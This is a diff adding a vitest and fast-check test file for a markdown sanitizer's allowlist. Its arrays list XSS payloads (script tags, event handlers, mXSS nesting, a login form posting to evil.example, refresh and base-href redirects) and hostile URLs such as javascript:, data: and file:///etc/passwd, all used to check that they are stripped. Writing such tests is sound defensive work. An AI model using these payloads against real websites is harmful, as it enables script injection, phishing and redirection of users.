@@ -1,0 +1,187 @@
+import fc from "fast-check";
+import { expect, test } from "vitest";
+import { safeMarkdown } from "~server/markup";
+
+/** The only markup that may come out, written down here a second time: no attribute but these, each in quotes. */
+const TAGS = [
+  /<(?:p|hr|h3|h4|ul|ol|li|blockquote|pre|code|strong|em|b|i|u|s|sub|sup|table|thead|tbody|tr|th|td)>/,
+  /<\/(?:p|h3|h4|ul|ol|li|blockquote|pre|code|strong|em|b|i|u|s|sub|sup|table|thead|tbody|tr|th|td|a)>/,
+  /<(?:br|hr) \/>/,
+  /<a href="(?:https:\/\/|mailto:|\/(?![/\\]))[^"<>]*" rel="noopener noreferrer nofollow">/,
+  /<img src="(?:https:\/\/|http:\/\/127\.0\.0\.1:9\/)[^"<>]*" alt="[^"<>]*"(?: width="\d+")?(?: height="\d+")? loading="lazy" \/>/,
+];
+const ALLOWED = new RegExp(TAGS.map((tag) => tag.source).join("|"), "g");
+
+/** What is left when everything allowed is taken out: text, in which a browser finds no tag. */
+const strangers = (html: string) => html.replace(ALLOWED, "").match(/<[^]{0,40}/g) ?? [];
+
+const SCRIPTS = [
+  `<script>alert(1)</script>`,
+  `<ScRiPt src=https://evil.example/x.js></sCrIpT>`,
+  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
+  `<img src=x onerror=alert(1)>`,
+  `<img src="https://cdn.example/a.png" onerror="alert(1)" style="position:fixed">`,
+  `<p onclick="alert(1)" style="display:none" id="main" class="sheet">x</p>`,
+  `<svg onload=alert(1)><script>alert(1)</script></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
+  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
+  `<textarea><img src=x onerror=alert(1)></textarea>`,
+  `<a href="https://a.example" target="_blank" onmouseover="alert(1)">x</a>`,
+  `<style>body{display:none}</style><link rel=stylesheet href=//evil.example>`,
+  `<iframe src="https://evil.example"></iframe><object data=x></object><embed src=x>`,
+  `<form action="https://evil.example"><input name=loginPword><button>Pay</button></form>`,
+  `<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example">`,
+  `<!--[if IE]><script>alert(1)</script><![endif]--><![CDATA[<script>alert(1)</script>]]>`,
+  `"><script>alert(1)</script>`,
+];
+
+test.each(SCRIPTS)("nothing that runs, frames, styles or posts comes through: %s", (markdown) => {
+  for (const text of [
+    markdown,
+    `a\n\n${markdown}\n\nb`,
+    `- ${markdown}`,
+    `> ${markdown}`,
+    `| a |\n| - |\n| ${markdown} |`,
+  ]) {
+    expect(strangers(safeMarkdown(text)), text).toEqual([]);
+  }
+});
+
+const HOSTILE_ADDRESSES = [
+  "javascript:alert(1)",
+  "JaVaScRiPt:alert(1)",
+  "&#106;avascript:alert(1)",
+  "java&Tab;script:alert(1)",
+  "\u0001javascript:alert(1)",
+  "vbscript:msgbox(1)",
+  "data:text/html,<script>alert(1)</script>",
+  "data:image/svg+xml;base64,PHN2Zz4=",
+  "blob:https://evil.example/x",
+  "file:///etc/passwd",
+  "//evil.example/x",
+  "/\\evil.example/x",
+  "\\\\evil.example/x",
+  "/%2fevil.example",
+  "/.//evil.example",
+  "https://user:secret@evil.example/",
+  "http://evil.example/x",
+];
+
+test.each(HOSTILE_ADDRESSES)("no link leads to %s and no picture comes from it", (address) => {
+  const markdown = `[words](<${address}>) <a href="${address}">words</a> ![seen](<${address}>) <img src="${address}" alt="seen">`;
+  const html = safeMarkdown(markdown);
+  expect(html).not.toMatch(/<(?:a|img)\b/);
+  expect(html).toContain("words");
+});
+
+test("a link leads to https, to a mailbox or to a page of this site, and passes no referrer on", () => {
+  const rel = 'rel="noopener noreferrer nofollow"';
+  expect(safeMarkdown("[more](https://docs.example/a?b=1&c=2)")).toContain(
+    `<a href="https://docs.example/a?b=1&amp;c=2" ${rel}>more</a>`,
+  );
+  expect(safeMarkdown("[write](mailto:sales@example.com)")).toContain(`<a href="mailto:sales@example.com" ${rel}>`);
+  expect(safeMarkdown("[power](/Index/Power?page=2#item-6)")).toContain(
+    `<a href="/Index/Power?page=2#item-6" ${rel}>power</a>`,
+  );
+  expect(safeMarkdown('<a href="/Index/Home">home</a>')).toContain(`<a href="/Index/Home" ${rel}>home</a>`);
+});
+
+test("a link that names neither a site nor this site's root is shown as its words: nothing says what it is relative to", () => {
+  for (const address of ["Index/Power", "../x", "#part", "?a=b", ""]) {
+    expect(safeMarkdown(`[words](<${address}>)`), address).toBe("<p>words</p>\n");
+  }
+});
+
+test("a picture comes over https or from the platform; a path is one of another site and shows nothing", () => {
+  expect(safeMarkdown('<img src="https://cdn.example/a.png" alt="A rack" width="320" height="200">')).toBe(
+    '<img src="https://cdn.example/a.png" alt="A rack" width="320" height="200" loading="lazy" />',
+  );
+  expect(safeMarkdown("![A rack](http://127.0.0.1:9/images/rack.svg)")).toContain(
+    '<img src="http://127.0.0.1:9/images/rack.svg" alt="A rack" loading="lazy" />',
+  );
+  expect(safeMarkdown("![](https://cdn.example/a.png)")).toContain(' alt=""');
+  expect(safeMarkdown('<img src="https://cdn.example/a.png" width="100%" height="9e9">')).toBe(
+    '<img src="https://cdn.example/a.png" alt="" loading="lazy" />',
+  );
+  for (const path of ["/images/rack.svg", "images/rack.svg", "rack.svg"]) {
+    expect(safeMarkdown(`![A rack](${path})`), path).not.toContain("<img");
+  }
+});
+
+test("markdown reads as markdown: headings below the page's own, lists, emphasis, tables, code, line ends", () => {
+  const html = safeMarkdown(
+    "# One\n## Two\n### Three\n##### Five\n\n**bold** *soft* `a < b`\nnext\n\n- x\n\n1. y\n\n> q\n\n| a | b |\n| - | - |\n| 1 | 2 |\n",
+  );
+  expect(html).toContain("<h3>One</h3>\n<h3>Two</h3>\n<h4>Three</h4>\n<h4>Five</h4>");
+  expect(html).toContain("<p><strong>bold</strong> <em>soft</em> <code>a &lt; b</code><br />next</p>");
+  expect(html).toContain("<ul>\n<li>x</li>\n</ul>");
+  expect(html).toContain("<ol>\n<li>y</li>\n</ol>");
+  expect(html).toContain("<blockquote>\n<p>q</p>\n</blockquote>");
+  expect(html).toContain("<tr>\n<td>1</td>\n<td>2</td>\n</tr>");
+  expect(strangers(html)).toEqual([]);
+});
+
+const TOO_DEEP = {
+  quotations: ">".repeat(19_000),
+  "spaced quotations": "> ".repeat(9_000),
+  "bold in bold": "<b>".repeat(6_000),
+  "lists in lists": Array.from({ length: 180 }, (_, depth) => `${" ".repeat(depth * 2)}- a`).join("\n"),
+  "brackets in brackets": "[".repeat(9_000) + "a" + "](b)".repeat(2_000),
+};
+
+test.each(Object.entries(TOO_DEEP))("a text nested too deep breaks nothing: %s", (_, markdown) => {
+  expect(strangers(safeMarkdown(markdown))).toEqual([]);
+});
+
+test("a text too long to be read as markdown comes as it was typed, and still as text", () => {
+  const html = safeMarkdown(`**bold**\n<script>alert(1)</script> a & b\n${"x".repeat(20_000)}`);
+  expect(html).toMatch(/^<p>\*\*bold\*\*<br \/>&lt;script&gt;alert\(1\)&lt;\/script&gt; a &amp; b<br \/>x+<\/p>$/);
+});
+
+test("whatever the platform sends, only the allowlist comes out", () => {
+  const pieces = fc.oneof(
+    fc.constantFrom(...SCRIPTS, ...HOSTILE_ADDRESSES),
+    fc.constantFrom(
+      "<",
+      ">",
+      '"',
+      "'",
+      "`",
+      "=",
+      "/",
+      "\\",
+      "\n",
+      "\n\n",
+      "\t",
+      "\0",
+      "&#",
+      ";",
+      "&quot;",
+      "<!--",
+      "-->",
+    ),
+    fc.constantFrom(
+      "[a](",
+      "![a](",
+      ")",
+      "<a href=",
+      "<img src=",
+      "<b",
+      "</p",
+      " on",
+      "x=",
+      "[x]: ",
+      "- ",
+      "> ",
+      "```",
+      "|",
+    ),
+    fc.string({ unit: "binary", maxLength: 12 }),
+  );
+  fc.assert(
+    fc.property(fc.array(pieces, { maxLength: 14 }), (parts) => {
+      expect(strangers(safeMarkdown(parts.join("")))).toEqual([]);
+    }),
+    { numRuns: 1500 },
+  );
+});
